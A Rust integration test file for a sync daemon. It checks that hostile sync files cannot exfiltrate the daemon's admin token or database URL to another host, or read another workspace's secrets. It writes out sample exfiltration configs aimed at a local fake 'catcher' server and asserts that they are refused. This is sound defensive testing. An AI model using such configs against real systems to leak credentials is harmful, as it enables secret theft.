//! A workspace reaches only its own: each attack a hostile sync file can
//! make, performed against the real binary, and seen to fail.

use crate::fakes::brevo::BrevoFake;
use crate::helpers::scenario::{SYNC_ID, Scenario, SyncOptions};

const ADMIN_TOKEN: &str = "admin-token-0123456789abcdef0123456789";

/// A sync file of workspace acme whose `[source]` and `[destination]` are
/// given.
fn sync_file(source: &str, destination: &str) -> String {
    format!(
        r#"id = "hostile"
workspace = "acme"
schedule = "0 0 0 29 2 *"

[source]
{source}

[destination]
{destination}

[mapping]
email = "email"
attributes = {{ FIRSTNAME = "first_name" }}
"#
    )
}

/// The sync files of the attacks the daemon's own settings invite: its admin
/// token as a Brevo key sent to another host, as an http source's
/// Authorization header, and its store's URL as a source.
fn attacks(catcher: &str) -> Vec<(&'static str, String)> {
    let postgres = "kind = \"postgres\"\nurl_env = \"TEST_SOURCE_URL\"\nquery = \"SELECT id, email, first_name FROM contacts\"\ncursor_column = \"id\"";
    let to_catcher = |key: &str| {
        format!(
            "kind = \"brevo\"\napi_key_env = \"{key}\"\nbase_url = \"{catcher}\"\nmode = \"bulk\"\nlist_ids = [1]"
        )
    };
    vec![
        (
            "destination.api_key_env",
            sync_file(postgres, &to_catcher("SYNCWARD__HTTP__ADMIN_TOKEN")),
        ),
        (
            "source.auth_env",
            sync_file(
                &format!(
                    "kind = \"http\"\nurl = \"{catcher}/contacts\"\ncursor_param = \"after\"\nitems_pointer = \"/data\"\nnext_cursor_pointer = \"/next\"\nauth_env = \"SYNCWARD__HTTP__ADMIN_TOKEN\""
                ),
                &to_catcher("TEST_BREVO_KEY"),
            ),
        ),
        (
            "source.url_env",
            sync_file(
                "kind = \"postgres\"\nurl_env = \"SYNCWARD__DATABASE__URL\"\nquery = \"SELECT id::bigint, token_sha256::text AS email, '' AS first_name FROM api_tokens\"\ncursor_column = \"id\"",
                &to_catcher("TEST_BREVO_KEY"),
            ),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sync_file_naming_the_daemons_settings_is_refused_and_sends_nothing() -> anyhow::Result<()>
{
    let s = Scenario::new(SyncOptions::default()).await?;
    let cli = s
        .cli
        .clone()
        .with_env("SYNCWARD__HTTP__ADMIN_TOKEN", ADMIN_TOKEN);
    // Another host, listening for whatever a hostile sync sends it.
    let catcher = BrevoFake::start(ADMIN_TOKEN).await?;
    for (field, text) in attacks(&catcher.base_url) {
        let path = s.dir.path().join("hostile.toml");
        std::fs::write(&path, &text)?;
        let file = path.display().to_string();
        for args in [
            vec!["sync", "apply", &file],
            vec!["sync", "apply", "--plan", &file],
        ] {
            let out = cli.run(&args).await?;
            assert_eq!(out.code, 2, "{args:?}: {out:?}");
            let line = out.stderr.trim();
            assert_eq!(line.lines().count(), 1, "{line}");
            assert!(line.contains(&file), "{line}");
            assert!(line.contains(field), "{line}");
            assert!(line.contains("daemon's own"), "{line}");
        }
    }
    assert!(
        catcher.requests().is_empty(),
        "nothing reached the other host: {:?}",
        catcher.requests()
    );
    let list = cli.run(&["sync", "list", "--json"]).await?.ok()?.json()?;
    assert_eq!(
        list.as_array().map(Vec::len),
        Some(1),
        "nothing published: {list}"
    );
    Ok(())
}

/// A definition stored before the rule (or written into the store by hand)
/// still cannot reach the daemon's settings: the run reads only the
/// workspace's secrets file, and fails before any request.
#[tokio::test(flavor = "multi_thread")]
async fn a_stored_definition_naming_the_daemons_settings_fails_its_run_before_any_request()
-> anyhow::Result<()> {
    let s = Scenario::new(SyncOptions::default()).await?;
    let catcher = BrevoFake::start(ADMIN_TOKEN).await?;
    for table in ["syncs", "sync_versions"] {
        let column = if table == "syncs" { "id" } else { "sync_id" };
        sqlx::query(sqlx::AssertSqlSafe(format!(
            "UPDATE {table} SET definition = jsonb_set(jsonb_set(definition,
                 '{{destination,api_key_env}}', '\"SYNCWARD__HTTP__ADMIN_TOKEN\"'),
                 '{{destination,base_url}}', to_jsonb($1::text))
             WHERE {column} = $2"
        )))
        .bind(&catcher.base_url)
        .bind(SYNC_ID)
        .execute(&s.db.pool)
        .await?;
    }
    let cli = s
        .cli
        .clone()
        .with_env("SYNCWARD__HTTP__ADMIN_TOKEN", ADMIN_TOKEN);
    let out = cli.run(&["sync", "run", SYNC_ID, "--foreground"]).await?;
    assert_ne!(out.code, 0, "{out:?}");
    let run = s.last_run().await?;
    assert_eq!(run["failure_code"], "config_invalid", "{run}");
    let detail = run["failure_detail"].as_str().unwrap_or_default();
    assert!(detail.contains("daemon's own"), "{detail}");
    assert!(!detail.contains(ADMIN_TOKEN), "{detail}");
    assert!(catcher.requests().is_empty(), "{:?}", catcher.requests());
    Ok(())
}

/// A sync reads its own workspace's secrets file: not another workspace's,
/// and not the daemon's environment.
#[tokio::test(flavor = "multi_thread")]
async fn a_sync_reads_only_its_own_workspaces_secrets() -> anyhow::Result<()> {
    let s = Scenario::new(SyncOptions::default()).await?;
    let key = crate::helpers::scenario::BREVO_KEY;
    let cli = s
        .cli
        .clone()
        .with_workspace_secret("globex", "GLOBEX_BREVO_KEY", key)
        .with_env("IN_THE_DAEMONS_ENV", key);
    let destination = |var: &str| {
        format!(
            "kind = \"brevo\"\napi_key_env = \"{var}\"\nbase_url = \"{}\"\nmode = \"bulk\"\nlist_ids = [12]",
            s.fake.base_url
        )
    };
    let source = "kind = \"postgres\"\nurl_env = \"TEST_SOURCE_URL\"\nquery = \"SELECT id, email, first_name FROM contacts\"\ncursor_column = \"id\"";
    let path = s.dir.path().join("other.toml");
    for var in ["GLOBEX_BREVO_KEY", "IN_THE_DAEMONS_ENV"] {
        std::fs::write(&path, sync_file(source, &destination(var)))?;
        let out = cli
            .run(&["sync", "apply", &path.display().to_string()])
            .await?;
        assert_eq!(out.code, 2, "{out:?}");
        let acme_file = cli.secrets_dir().join("acme.env").display().to_string();
        assert!(
            out.stderr.contains(&format!(
                "destination.api_key_env: {var} is not set in {acme_file}"
            )),
            "{}",
            out.stderr
        );
    }
    // The same file in globex's workspace has the key, and runs.
    let globex = sync_file(source, &destination("GLOBEX_BREVO_KEY")).replacen(
        "workspace = \"acme\"",
        "workspace = \"globex\"",
        1,
    );
    std::fs::write(&path, globex)?;
    cli.run(&["sync", "apply", &path.display().to_string()])
        .await?
        .ok()?;
    let out = cli.run(&["sync", "run", "hostile", "--foreground"]).await?;
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(s.fake.writes().len(), 30);
    Ok(())
}
